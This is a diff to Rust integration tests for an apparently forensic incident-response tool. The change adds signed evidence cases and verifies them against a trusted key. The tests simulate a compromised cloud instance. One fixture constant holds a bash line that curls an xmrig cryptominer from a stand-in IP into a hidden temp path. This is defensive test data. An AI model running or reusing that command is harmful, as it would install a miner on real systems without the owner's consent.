@@ -6,18 +6,30 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use cleanroom::cloud::{Accounts, SnapshotState, TrailEvent, TrailResource};
+use cleanroom::evidence::signing::{KeySource, TrustedKey};
 use cleanroom::evidence::{Actor, Case, LockMode, Retention, ToolInfo};
 use cleanroom::fake::accounts::FakeAccounts;
 use cleanroom::fake::cloud::FakeCloud;
+use cleanroom::fake::signer::LocalSigner;
 use cleanroom::fake::store::MemoryStore;
 use cleanroom::ids::{CaseId, InstanceId};
 use cleanroom::pipeline::custody::CaseCustody;
 use cleanroom::pipeline::journal::Journal;
 use cleanroom::pipeline::{Run, Selection, Settings, Stage, Target, TargetState, execute};
 use cleanroom::progress::Silent;
-use cleanroom::verify::{VerifyOptions, verify_case};
+use cleanroom::verify::{Trust, VerifyOptions, verify_case};
 
 const FORENSICS: &str = "999988887777";
+
+/// Verification with the signing key given out of band, as an examiner would.
+fn trusted() -> VerifyOptions {
+    let pem = LocalSigner::from_seed(7).public_key_pem();
+    VerifyOptions {
+        trust: Trust::Key(
+            TrustedKey::from_bytes(pem.as_bytes(), KeySource::File { path: "signing.pem".into() }).unwrap(),
+        ),
+    }
+}
 const MINER: &str = "#!/bin/bash\ncurl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig\n";
 
 fn case() -> CaseId {
@@ -78,13 +90,14 @@ impl Incident {
         };
         let tool =
             ToolInfo { name: "cleanroom".into(), version: "test".into(), binary_sha256: "sha256:00".into() };
-        let opened = Case::open_with(
+        let opened = Case::open_signed(
             self.store.clone(),
             &case(),
             actor,
             tool,
             "sha256:config".into(),
             Retention::explicit(LockMode::Compliance, 30),
+            Arc::new(LocalSigner::from_seed(7)),
         )
         .await
         .map_err(|e| e.to_string())?;
@@ -164,8 +177,8 @@ async fn acquire_preserves_captures_contains_and_hands_off_both_disks() {
         Some("AKIAEXAMPLELEAKED01")
     );
     assert_eq!(t.containment.as_ref().unwrap().status, cleanroom::isolate::workflow::Status::Isolated);
-    let report = verify_case(w.store.as_ref(), &case(), &VerifyOptions::default()).await.unwrap();
-    assert!(report.ok(), "{:#?}", report.findings);
+    let report = verify_case(w.store.as_ref(), &case(), &trusted()).await.unwrap();
+    assert!(report.verified(), "{:#?}", report.findings);
 }
 
 /// Every resource the case created, by kind, as the cloud holds them.
@@ -205,8 +218,8 @@ async fn a_crash_after_any_call_then_a_rerun_completes_with_nothing_twice() {
             w.member.all_snapshots().iter().all(|s| s.shared_with.is_empty()),
             "crash at call {k}: share left"
         );
-        let report = verify_case(w.store.as_ref(), &case(), &VerifyOptions::default()).await.unwrap();
-        assert!(report.ok(), "crash at call {k}: {:#?}", report.findings);
+        let report = verify_case(w.store.as_ref(), &case(), &trusted()).await.unwrap();
+        assert!(report.verified(), "crash at call {k}: {:#?}", report.findings);
     }
 }
 
@@ -264,8 +277,8 @@ async fn a_forensics_key_the_copy_cannot_use_is_a_clear_error_and_rerun_after_th
     let targets = w.run().await.unwrap();
     assert!(targets[0].succeeded(), "{:#?}", targets[0].failed);
     assert_eq!(inventory(&w).2, 3, "one failed copy (kept, journaled as removed) and two good ones");
-    let report = verify_case(w.store.as_ref(), &case(), &VerifyOptions::default()).await.unwrap();
-    assert!(report.ok(), "{:#?}", report.findings);
+    let report = verify_case(w.store.as_ref(), &case(), &trusted()).await.unwrap();
+    assert!(report.verified(), "{:#?}", report.findings);
 }
 
 #[tokio::test(start_paused = true)]
